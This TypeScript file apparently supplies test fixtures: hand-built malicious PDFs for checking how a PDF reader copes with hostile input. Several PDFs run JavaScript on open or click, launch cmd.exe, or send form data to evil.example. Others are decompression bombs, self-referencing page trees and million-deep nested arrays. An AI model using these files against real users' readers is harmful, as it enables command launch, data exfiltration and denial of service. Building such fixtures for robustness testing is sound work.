// PDFs that try what a PDF can: built by hand, each object a line.
import { deflateSync } from 'node:zlib'

/** @param objects number 1 is the catalog; streams are given with their bytes */
export function pdfOf(objects: (string | [string, Uint8Array])[]): Buffer {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  const offsets: number[] = []
  const length = () => pieces.reduce((sum, piece) => sum + piece.length, 0)
  objects.forEach((object, n) => {
    offsets.push(length())
    const [text, data] = typeof object === 'string' ? [object, undefined] : object
    pieces.push(Buffer.from(`${n + 1} 0 obj\n${text}\n`))
    if (data) pieces.push(Buffer.from('stream\n'), Buffer.from(data), Buffer.from('\nendstream\n'))
    pieces.push(Buffer.from('endobj\n'))
  })
  const xref = length()
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`)
  pieces.push(
    Buffer.from(
      `xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${rows.join('')}trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`,
    ),
  )
  return Buffer.concat(pieces)
}

export const page =
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>'
const content = Buffer.from('BT /F1 12 Tf 72 720 Td (Hostile but readable) Tj ET')
export const stream = (bytes: Uint8Array, more = ''): [string, Uint8Array] => [
  `<< /Length ${bytes.length} ${more} >>`,
  bytes,
]
const script = 'app.alert\\(1\\); app.launchURL\\("https://evil.example/"\\)'
const everywhere = '/Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 0]'

/** Scripts and links that run when it is opened, or clicked anywhere. */
export const actingPdfs: Record<string, Buffer> = Object.fromEntries(
  Object.entries({
    JavaScript: `<< /S /JavaScript /JS (${script}) >>`,
    Launch: '<< /S /Launch /F (cmd.exe) >>',
    'URI javascript': '<< /S /URI /URI (javascript:window.pwned=1) >>',
    'URI elsewhere': '<< /S /URI /URI (https://evil.example/) >>',
    GoToR: '<< /S /GoToR /F (https://evil.example/other.pdf) /D [0 /Fit] >>',
    SubmitForm: '<< /S /SubmitForm /F (https://evil.example/) >>',
  }).map(([name, action]) => [
    name,
    pdfOf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} /AA << /WC ${action} >> >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `${page} /AA << /O ${action} >> /Annots [<< ${everywhere} /A ${action} >>] >>`,
      stream(content),
    ]),
  ]),
)

/** What would take hours or gigabytes of a reader that believes it. */
export function heavyPdfs(): Record<string, Buffer> {
  const body = (catalog: string, pages: string, contents: [string, Uint8Array]) =>
    pdfOf([catalog, pages, `${page} >>`, contents])
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>'
  const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'
  let bomb: Uint8Array = Buffer.alloc(200 * 1024 * 1024, '(a) Tj ')
  bomb = deflateSync(bomb, { level: 9 })
  return {
    'two billion pages': body(
      catalog,
      '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>',
      stream(content),
    ),
    'a page tree that contains itself': body(
      catalog,
      '<< /Type /Pages /Kids [2 0 R] /Count 5 >>',
      stream(content),
    ),
    'arrays nested a million deep': body(
      `<< /Type /Catalog /Pages 2 0 R /X ${'['.repeat(1_000_000)} >>`,
      pages,
      stream(content),
    ),
    'a stream of 200 MB in 200 KB': body(catalog, pages, stream(bomb, '/Filter /FlateDecode')),
    'a stream of a stream of 200 MB': body(
      catalog,
      pages,
      stream(deflateSync(bomb), '/Filter [/FlateDecode /FlateDecode]'),
    ),
  }
}
